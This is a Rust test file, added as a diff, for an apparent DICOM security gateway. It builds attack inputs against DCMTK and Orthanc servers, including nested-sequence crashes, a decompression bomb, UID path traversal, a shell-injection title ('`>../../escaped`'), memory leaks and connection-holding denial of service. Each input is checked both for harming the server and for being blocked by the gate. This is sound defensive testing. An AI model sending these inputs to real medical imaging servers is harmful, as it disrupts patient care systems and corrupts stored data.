@@ -1,0 +1,464 @@
+//! The inputs.
+
+use super::deflated::repeating;
+use super::harm::Harm;
+use super::nested::{
+    DEPTH, PRIVATE, REFERENCED_IMAGE, big_endian, explicit_defined, explicit_undefined,
+    implicit_defined, implicit_undefined, little,
+};
+use super::play::{Attack, directly, through_the_gate};
+use super::servers::{ESCAPED, FOREIGN_LIST, Kind};
+use crate::support::associate::{
+    Associate, CT, DEFLATED, EXPLICIT, IMPLICIT, Item, STUDY_FIND, VERIFICATION,
+};
+use crate::support::dimse::{INSTANCE, command, find_rq, store_rq, uid, us};
+use crate::support::exchange::fragments;
+use crate::support::pdu::{COMMAND, LAST, p_data};
+
+/// An input that harms a server.
+pub(super) struct Row {
+    pub(super) server: Kind,
+    /// The class of bug, with the number of an example where there is one.
+    pub(super) class: &'static str,
+    pub(super) does: &'static str,
+    pub(super) harm: Harm,
+    /// The event and the reason with which the gate stops it.
+    pub(super) stopped: (&'static str, &'static str),
+    /// Makes the bytes for a server that is called by this title.
+    pub(super) attack: fn(&str) -> Attack,
+}
+
+/// The reason code of a rule that is not built yet.
+const UNKNOWN: (&str, &str) = ("closed", "?");
+const BIG_ENDIAN: &str = "1.2.840.10008.1.2.2";
+const WORKLIST_FIND: &str = "1.2.840.10008.5.1.4.31";
+const SHUTDOWN: &str = "1.2.276.0.7230010.3.4.1915765545.18030.917282194.0";
+const STUDY_MOVE: &str = "1.2.840.10008.5.1.4.1.2.2.2";
+const STUDY_GET: &str = "1.2.840.10008.5.1.4.1.2.2.3";
+const NESTED: &str = "nested sequences exhaust the stack";
+const BOMB: &str = "decompression bomb";
+const INJECTION: &str = "titles in a shell command (the class of CVE-2026-5663)";
+const HELD: &str = "one connection holds all";
+const SEQUENCE_TYPE: &str = "type confusion (CVE-2026-44628)";
+/// Large enough to bury the rest of the server's memory, small enough for a quick test.
+const LEAKED: Harm = Harm::Leaks(12 * 1024);
+
+/// Of the 258 MB to which a deflated data set of 1.7 MB grows.
+const SWOLLEN: Harm = Harm::Swells(200 * 1024);
+/// A title that a shell takes for a command which makes [`ESCAPED`].
+const COMMAND_TITLE: &str = "`>../../escaped`";
+
+/// Each line is a row and its two tests: the server, the class, what is sent, the harm, how the
+/// gate stops it, and the bytes.
+macro_rules! rows {
+    ($($name:ident: $server:ident, $class:expr, $does:literal, $harm:expr, $stopped:expr,
+        $attack:expr;)*) => {$(
+        mod $name {
+            use super::*;
+
+            static ROW: Row = Row {
+                server: Kind::$server,
+                class: $class,
+                does: $does,
+                harm: $harm,
+                stopped: $stopped,
+                attack: $attack,
+            };
+
+            #[test]
+            #[ignore = "needs DCMTK, Orthanc and pynetdicom: run tests/all"]
+            fn harms_the_server() {
+                directly(&ROW);
+            }
+
+            #[test]
+            #[ignore = "needs DCMTK, Orthanc and pynetdicom: run tests/all"]
+            fn does_no_harm_through_the_gate() {
+                through_the_gate(&ROW);
+            }
+        }
+    )*};
+}
+
+rows! {
+    storescp_nested_implicit_undefined: Storescp, NESTED,
+        "C-STORE of nested sequences, Implicit VR, undefined lengths", Harm::Dies, UNKNOWN,
+        |called| store(called, IMPLICIT, &implicit(implicit_undefined(REFERENCED_IMAGE)));
+    storescp_nested_implicit_defined: Storescp, NESTED,
+        "C-STORE of nested sequences, Implicit VR, defined lengths", Harm::Dies, UNKNOWN,
+        |called| store(called, IMPLICIT, &implicit(implicit_defined(REFERENCED_IMAGE)));
+    storescp_nested_explicit_undefined: Storescp, NESTED,
+        "C-STORE of nested sequences, Explicit VR, undefined lengths", Harm::Dies, UNKNOWN,
+        |called| store(called, EXPLICIT, &explicit(explicit_undefined(REFERENCED_IMAGE, *b"SQ")));
+    storescp_nested_explicit_defined: Storescp, NESTED,
+        "C-STORE of nested sequences, Explicit VR, defined lengths", Harm::Dies, UNKNOWN,
+        |called| store(called, EXPLICIT, &explicit(explicit_defined(REFERENCED_IMAGE)));
+    storescp_nested_private_sequence: Storescp, NESTED,
+        "C-STORE of nested private sequences, Explicit VR", Harm::Dies, UNKNOWN,
+        |called| store(called, EXPLICIT, &explicit(explicit_defined(PRIVATE)));
+    storescp_nested_private_undefined: Storescp, NESTED,
+        "C-STORE of nested private elements of undefined length", Harm::Dies, UNKNOWN,
+        |called| store(called, IMPLICIT, &implicit(implicit_undefined(PRIVATE)));
+    storescp_nested_in_un: Storescp, NESTED,
+        "C-STORE of sequences in an element of VR UN and undefined length", Harm::Dies, UNKNOWN,
+        |called| store(called, EXPLICIT, &explicit(in_un()));
+    storescp_nested_in_vendor_sequence: Storescp, NESTED,
+        "C-STORE of sequences in an element that a vendor's dictionary knows", Harm::Dies, UNKNOWN,
+        |called| store(called, IMPLICIT, &implicit(in_vendor_sequence()));
+    storescp_nested_big_endian: Storescp, NESTED,
+        "C-STORE of nested sequences, Big Endian", Harm::Dies, UNKNOWN,
+        |called| store(called, BIG_ENDIAN, &big_endian(REFERENCED_IMAGE));
+    storescp_nested_in_command: Storescp, NESTED,
+        "nested sequences in a command set", Harm::Dies,
+        ("closed", "requestor-command-too-long"),
+        |called| nested_command(called);
+    wlmscpfs_nested_in_command: Wlmscpfs, NESTED,
+        "nested sequences in a command set", Harm::Dies,
+        ("closed", "requestor-command-too-long"),
+        |called| nested_command(called);
+    orthanc_nested_in_command: Orthanc, NESTED,
+        "nested sequences in a command set", Harm::Dies,
+        ("closed", "requestor-command-too-long"),
+        |called| nested_command(called);
+    orthanc_nested_implicit_undefined: Orthanc, NESTED,
+        "C-STORE of nested sequences, Implicit VR, undefined lengths", Harm::Dies, UNKNOWN,
+        |called| store(called, IMPLICIT, &implicit(implicit_undefined(REFERENCED_IMAGE)));
+    orthanc_nested_implicit_defined: Orthanc, NESTED,
+        "C-STORE of nested sequences, Implicit VR, defined lengths", Harm::Dies, UNKNOWN,
+        |called| store(called, IMPLICIT, &implicit(implicit_defined(REFERENCED_IMAGE)));
+    orthanc_nested_explicit_defined: Orthanc, NESTED,
+        "C-STORE of nested sequences, Explicit VR, defined lengths", Harm::Dies, UNKNOWN,
+        |called| store(called, EXPLICIT, &explicit(explicit_defined(REFERENCED_IMAGE)));
+    orthanc_nested_in_un: Orthanc, NESTED,
+        "C-STORE of sequences in an element of VR UN and undefined length", Harm::Dies, UNKNOWN,
+        |called| store(called, EXPLICIT, &explicit(in_un()));
+    orthanc_nested_in_vendor_sequence: Orthanc, NESTED,
+        "C-STORE of sequences in an element that a vendor's dictionary knows", Harm::Dies, UNKNOWN,
+        |called| store(called, IMPLICIT, &implicit(in_vendor_sequence()));
+    orthanc_nested_in_query: Orthanc, NESTED,
+        "C-FIND with nested sequences in its identifier", Harm::Dies, UNKNOWN,
+        |called| message(called, STUDY_FIND, IMPLICIT, &find_rq(1), &nested_query());
+    orthanc_nested_in_move: Orthanc, NESTED,
+        "C-MOVE with nested sequences in its identifier", Harm::Dies, UNKNOWN,
+        |called| message(called, STUDY_MOVE, IMPLICIT, &retrieve(STUDY_MOVE, 0x21), &nested_query());
+    orthanc_nested_in_get: Orthanc, NESTED,
+        "C-GET with nested sequences in its identifier", Harm::Dies, UNKNOWN,
+        |called| message(called, STUDY_GET, IMPLICIT, &retrieve(STUDY_GET, 0x10), &nested_query());
+    wlmscpfs_nested_in_query: Wlmscpfs, NESTED,
+        "C-FIND of the work list with nested sequences in its identifier", Harm::Dies, UNKNOWN,
+        |called| worklist(called, IMPLICIT, &implicit_undefined(REFERENCED_IMAGE));
+    wlmscpfs_nested_defined_in_query: Wlmscpfs, NESTED,
+        "the same with defined lengths", Harm::Dies, UNKNOWN,
+        |called| worklist(called, IMPLICIT, &implicit_defined(REFERENCED_IMAGE));
+
+    wlmscpfs_scheduled_step_as_text: Wlmscpfs, SEQUENCE_TYPE,
+        "C-FIND with (0040,0100), a sequence, as LO", Harm::Dies, UNKNOWN,
+        |called| worklist(called, EXPLICIT, &text((0x0040, 0x0100)));
+    wlmscpfs_referenced_study_as_text: Wlmscpfs, SEQUENCE_TYPE,
+        "C-FIND with (0008,1110), a sequence, as LO", Harm::Dies, UNKNOWN,
+        |called| worklist(called, EXPLICIT, &text((0x0008, 0x1110)));
+    wlmscpfs_referenced_patient_as_text: Wlmscpfs, SEQUENCE_TYPE,
+        "C-FIND with (0008,1120), a sequence, as LO", Harm::Dies, UNKNOWN,
+        |called| worklist(called, EXPLICIT, &text((0x0008, 0x1120)));
+    wlmscpfs_procedure_code_as_text: Wlmscpfs, SEQUENCE_TYPE,
+        "C-FIND with (0032,1064), a sequence, as LO", Harm::Dies, UNKNOWN,
+        |called| worklist(called, EXPLICIT, &text((0x0032, 0x1064)));
+    wlmscpfs_foreign_work_list: Wlmscpfs, "path in a title (CVE-2026-52868)",
+        "C-FIND under a called title that leads to another directory", Harm::Reads,
+        ("refused", "called-title"),
+        |_| worklist(FOREIGN_LIST, IMPLICIT, &any_patient());
+
+    qrscp_path_in_both_uids: Qrscp, "path in a UID (CVE-2026-56445)",
+        "C-STORE whose SOP Instance UID leads out of the storage", Harm::Writes,
+        ("closed", "requestor-malformed-command"),
+        |called| path(called, ESCAPED);
+    qrscp_path_in_the_data_set: Qrscp, "path in a UID (CVE-2026-56445)",
+        "the same in the data set alone", Harm::Writes, UNKNOWN,
+        |called| path(called, INSTANCE);
+    qrscp_path_in_a_second_uid: Qrscp, "path in a UID (CVE-2026-56445)",
+        "the same in a second (0008,0018) behind a sound one", Harm::Writes, UNKNOWN,
+        |called| store(called, IMPLICIT, &[instance(INSTANCE), instance(ESCAPED), study()].concat());
+    qrscp_path_as_unknown: Qrscp, "path in a UID (CVE-2026-56445)",
+        "the same with VR UN", Harm::Writes, UNKNOWN,
+        |called| store(called, EXPLICIT, &path_as_unknown());
+    qrscp_path_in_hidden_elements: Qrscp, "path in a UID (CVE-2026-56445)",
+        "Explicit VR in a context of Implicit VR", Harm::Writes, UNKNOWN,
+        |called| store(called, IMPLICIT, &path_as_unknown());
+
+    storescp_repeated_identity: Storescp, "leak in association requests (CVE-2026-50254)",
+        "requests with four user identities", LEAKED, ("refused", "second-user-identity"),
+        |called| identities(called);
+    wlmscpfs_repeated_identity: Wlmscpfs, "leak in association requests (CVE-2026-50254)",
+        "requests with four user identities", LEAKED, ("refused", "second-user-identity"),
+        |called| identities(called);
+    orthanc_repeated_identity: Orthanc, "leak in association requests (CVE-2026-50254)",
+        "requests with four user identities", LEAKED, ("refused", "second-user-identity"),
+        |called| identities(called);
+
+    storescp_half_a_request: Storescp, HELD,
+        "half a request, then silence", Harm::Blocks, ("refused", "request-timeout"),
+        |called| half(called);
+    wlmscpfs_half_a_request: Wlmscpfs, HELD,
+        "half a request, then silence", Harm::Blocks, ("refused", "request-timeout"),
+        |called| half(called);
+    orthanc_half_a_request: Orthanc, HELD,
+        "half a request, then silence", Harm::Blocks, ("refused", "request-timeout"),
+        |called| half(called);
+    storescp_silence: Storescp, HELD,
+        "a connection that says nothing", Harm::Blocks, ("refused", "request-timeout"),
+        |_| silence();
+    orthanc_silence: Orthanc, HELD,
+        "a connection that says nothing", Harm::Blocks, ("refused", "request-timeout"),
+        |_| silence();
+
+    storescp_no_context: Storescp, HELD,
+        "a request without a presentation context", Harm::Blocks,
+        ("refused", "no-presentation-context"),
+        |called| alone(&Associate::request("CT1", called));
+    orthanc_no_context: Orthanc, HELD,
+        "a request without a presentation context", Harm::Blocks,
+        ("refused", "no-presentation-context"),
+        |called| alone(&Associate::request("CT1", called));
+    storescp_no_transfer_syntax: Storescp, HELD,
+        "a presentation context without a transfer syntax", Harm::Blocks,
+        ("refused", "no-transfer-syntax"),
+        |called| alone(&Associate::request("CT1", called).context(1, VERIFICATION, &[]));
+    orthanc_no_transfer_syntax: Orthanc, HELD,
+        "a presentation context without a transfer syntax", Harm::Blocks,
+        ("refused", "no-transfer-syntax"),
+        |called| alone(&Associate::request("CT1", called).context(1, VERIFICATION, &[]));
+    storescp_51_transfer_syntaxes: Storescp, HELD,
+        "a presentation context with 51 transfer syntaxes", Harm::Blocks,
+        ("refused", "no-permitted-service"),
+        |called| alone(&many_transfer_syntaxes(called));
+    orthanc_51_transfer_syntaxes: Orthanc, HELD,
+        "a presentation context with 51 transfer syntaxes", Harm::Blocks,
+        ("refused", "no-permitted-service"),
+        |called| alone(&many_transfer_syntaxes(called));
+
+    storescp_command_in_the_calling_title: StorescpRunning, INJECTION,
+        "C-STORE under a calling title that a shell would run", Harm::Writes,
+        ("refused", "calling-title"),
+        |called| storing(&Associate::request(COMMAND_TITLE, called));
+    storescp_command_in_the_called_title: StorescpRunning, INJECTION,
+        "C-STORE under a called title that a shell would run", Harm::Writes,
+        ("refused", "called-title"),
+        |_| storing(&Associate::request("CT1", COMMAND_TITLE));
+
+    dcmqrscp_shutdown_class: Dcmqrscp, "private shutdown SOP class",
+        "a request for DCMTK's shutdown class", Harm::Dies, ("refused", "no-permitted-service"),
+        |called| alone(&Associate::request("CT1", called).context(1, SHUTDOWN, &[IMPLICIT]));
+
+    storescp_deflated_bomb: StorescpDeflated, BOMB,
+        "C-STORE of 1.7 MB that grow to 258 MB", SWOLLEN, ("refused", "no-permitted-service"),
+        |called| bomb(called);
+    orthanc_deflated_bomb: Orthanc, BOMB,
+        "C-STORE of 1.7 MB that grow to 258 MB", SWOLLEN, ("refused", "no-permitted-service"),
+        |called| bomb(called);
+    qrscp_deflated_bomb: Qrscp, BOMB,
+        "C-STORE of 1.7 MB that grow to 258 MB", SWOLLEN, ("refused", "no-permitted-service"),
+        |called| bomb(called);
+    storescp_deflated_nested: StorescpDeflated, NESTED,
+        "C-STORE of nested sequences, deflated to 4 kB", Harm::Dies,
+        ("refused", "no-permitted-service"),
+        |called| deflated_nested(called);
+    orthanc_deflated_nested: Orthanc, NESTED,
+        "C-STORE of nested sequences, deflated to 4 kB", Harm::Dies,
+        ("refused", "no-permitted-service"),
+        |called| deflated_nested(called);
+}
+
+fn alone(request: &Associate) -> Attack {
+    Attack { request: request.encode(), behind: Vec::new(), rounds: 1 }
+}
+
+fn many_transfer_syntaxes(called: &str) -> Associate {
+    let names: Vec<_> = (0..51).map(|number| format!("2.25.{number}")).collect();
+    let names: Vec<_> = names.iter().map(String::as_str).collect();
+    Associate::request("CT1", called).context(1, VERIFICATION, &names)
+}
+
+fn storing(request: &Associate) -> Attack {
+    let request = request.clone().context(1, CT, &[IMPLICIT]);
+    let set = fragments(1, &[instance(INSTANCE), study()].concat(), 16_000);
+    let behind = [p_data(1, COMMAND | LAST, &store_rq(1)), set].concat();
+    Attack { request: request.encode(), behind, rounds: 1 }
+}
+
+fn bomb(called: &str) -> Attack {
+    const BLOCKS: usize = 1_000_000;
+    let length = u32::try_from(BLOCKS * 258).unwrap();
+    let (tag, value) = (little((0x7fe0, 0x0010)), (length + 2).to_le_bytes());
+    let head = explicit([tag.as_slice(), b"OW\0\0", &value, &[0, 0]].concat());
+    store(called, DEFLATED, &repeating(&head, 1, BLOCKS))
+}
+
+fn deflated_nested(called: &str) -> Attack {
+    let one = &explicit_undefined(REFERENCED_IMAGE, *b"SQ")[..20];
+    // 258 bytes hold 12 sequences and a part of the next.
+    store(called, DEFLATED, &repeating(&explicit(one.to_vec()), 20, DEPTH / 12))
+}
+
+fn message(called: &str, class: &str, transfer: &str, command: &[u8], set: &[u8]) -> Attack {
+    let request = Associate::request("CT1", called).context(1, class, &[transfer]);
+    let behind = [p_data(1, COMMAND | LAST, command), fragments(1, set, 16_000)].concat();
+    Attack { request: request.encode(), behind, rounds: 1 }
+}
+
+fn store(called: &str, transfer: &str, set: &[u8]) -> Attack {
+    message(called, CT, transfer, &store_rq(1), set)
+}
+
+fn worklist(called: &str, transfer: &str, identifier: &[u8]) -> Attack {
+    let find = command(&[
+        uid(0x0002, WORKLIST_FIND),
+        us(0x0100, 0x0020),
+        us(0x0110, 1),
+        us(0x0700, 0),
+        us(0x0800, 1),
+    ]);
+    message(called, WORKLIST_FIND, transfer, &find, identifier)
+}
+
+fn retrieve(class: &str, code: u16) -> Vec<u8> {
+    command(&[
+        uid(0x0002, class),
+        us(0x0100, code),
+        us(0x0110, 1),
+        us(0x0600, u16::from_le_bytes(*b"CT")),
+        us(0x0700, 0),
+        us(0x0800, 1),
+    ])
+}
+
+fn nested_command(called: &str) -> Attack {
+    let set = [
+        command(&[
+            uid(0x0002, VERIFICATION),
+            us(0x0100, 0x0030),
+            us(0x0110, 1),
+            us(0x0800, 0x0101),
+        ]),
+        implicit_undefined(REFERENCED_IMAGE),
+    ];
+    // Long fragments: the gate's limit of their number must not hide the rule at work.
+    let set = set.concat();
+    let count = set.len().div_ceil(16_000);
+    let parts = set.chunks(16_000).enumerate();
+    let control = |number| if number + 1 == count { COMMAND | LAST } else { COMMAND };
+    let behind = parts.flat_map(|(number, part)| p_data(1, control(number), part)).collect();
+    Attack { request: Associate::echo("CT1", called).encode(), behind, rounds: 1 }
+}
+
+fn identities(called: &str) -> Attack {
+    let identity = || Item::identity(1, &[b'u'; 15_000], b"");
+    let request = (0..4).fold(Associate::echo("CT1", called), |it, _| it.with_user(identity()));
+    Attack { request: request.encode(), behind: Vec::new(), rounds: 400 }
+}
+
+fn half(called: &str) -> Attack {
+    let request = Associate::echo("CT1", called).encode()[..60].to_vec();
+    Attack { request, behind: Vec::new(), rounds: 1 }
+}
+
+fn silence() -> Attack {
+    Attack { request: Vec::new(), behind: Vec::new(), rounds: 1 }
+}
+
+fn path(called: &str, instance_of_the_command: &str) -> Attack {
+    let request = command(&[
+        uid(0x0002, CT),
+        us(0x0100, 0x0001),
+        us(0x0110, 1),
+        us(0x0700, 0),
+        us(0x0800, 1),
+        uid(0x1000, instance_of_the_command),
+    ]);
+    message(called, CT, IMPLICIT, &request, &[instance(ESCAPED), study()].concat())
+}
+
+fn path_as_unknown() -> Vec<u8> {
+    let class = explicit_element((0x0008, 0x0016), *b"UI", CT);
+    let study = [
+        explicit_element((0x0010, 0x0010), *b"PN", "DOE"),
+        explicit_element((0x0010, 0x0020), *b"LO", "4711"),
+        explicit_element((0x0020, 0x000d), *b"UI", "2.25.79"),
+        explicit_element((0x0020, 0x000e), *b"UI", "2.25.80"),
+    ];
+    let study = study.concat();
+    [class, explicit_element((0x0008, 0x0018), *b"UN", ESCAPED), study].concat()
+}
+
+/// SOP class and instance, Implicit VR.
+fn instance(uid: &str) -> Vec<u8> {
+    [element((0x0008, 0x0016), CT.as_bytes()), element((0x0008, 0x0018), uid.as_bytes())].concat()
+}
+
+fn study() -> Vec<u8> {
+    let patient = [element((0x0010, 0x0010), b"DOE "), element((0x0010, 0x0020), b"4711")].concat();
+    let study = element((0x0020, 0x000d), b"2.25.79");
+    [patient, study, element((0x0020, 0x000e), b"2.25.80")].concat()
+}
+
+fn any_patient() -> Vec<u8> {
+    [element((0x0010, 0x0010), b""), element((0x0010, 0x0020), b"")].concat()
+}
+
+fn implicit(nested: Vec<u8>) -> Vec<u8> {
+    [instance(INSTANCE), nested].concat()
+}
+
+fn explicit(nested: Vec<u8>) -> Vec<u8> {
+    let head = [
+        explicit_element((0x0008, 0x0016), *b"UI", CT),
+        explicit_element((0x0008, 0x0018), *b"UI", INSTANCE),
+    ];
+    [head.concat(), nested].concat()
+}
+
+fn nested_query() -> Vec<u8> {
+    [element((0x0008, 0x0052), b"STUDY "), implicit_undefined(REFERENCED_IMAGE)].concat()
+}
+
+/// An element of VR UN and undefined length, whose content is in Implicit VR.
+fn in_un() -> Vec<u8> {
+    let open = [&little(PRIVATE), b"UN\0\0\xff\xff\xff\xff".as_slice(), ITEM_OPEN].concat();
+    [open, implicit_undefined(PRIVATE)].concat()
+}
+
+fn in_vendor_sequence() -> Vec<u8> {
+    let creator = element((0x2001, 0x0010), b"Philips Imaging DD 001");
+    let nested = implicit_defined(REFERENCED_IMAGE);
+    assert_eq!(nested.len(), 16 * DEPTH);
+    let item = element((0xfffe, 0xe000), &nested);
+    [creator, element((0x2001, 0x105f), &item)].concat()
+}
+
+const ITEM_OPEN: &[u8] = b"\xfe\xff\x00\xe0\xff\xff\xff\xff";
+
+fn text(tag: (u16, u16)) -> Vec<u8> {
+    explicit_element(tag, *b"LO", "abcd")
+}
+
+/// An element in Implicit VR.
+fn element(tag: (u16, u16), value: &[u8]) -> Vec<u8> {
+    let value = even(value);
+    let length = u32::try_from(value.len()).unwrap();
+    [little(tag).as_slice(), &length.to_le_bytes(), &value].concat()
+}
+
+/// An element in Explicit VR.
+fn explicit_element(tag: (u16, u16), vr: [u8; 2], value: &str) -> Vec<u8> {
+    let value = even(value.as_bytes());
+    let short = u16::try_from(value.len()).unwrap();
+    let length = match &vr {
+        b"UN" => [[0, 0].as_slice(), &u32::from(short).to_le_bytes()].concat(),
+        _ => short.to_le_bytes().to_vec(),
+    };
+    [little(tag).as_slice(), &vr, &length, &value].concat()
+}
+
+fn even(value: &[u8]) -> Vec<u8> {
+    let padding = vec![0; value.len() % 2];
+    [value, padding.as_slice()].concat()
+}
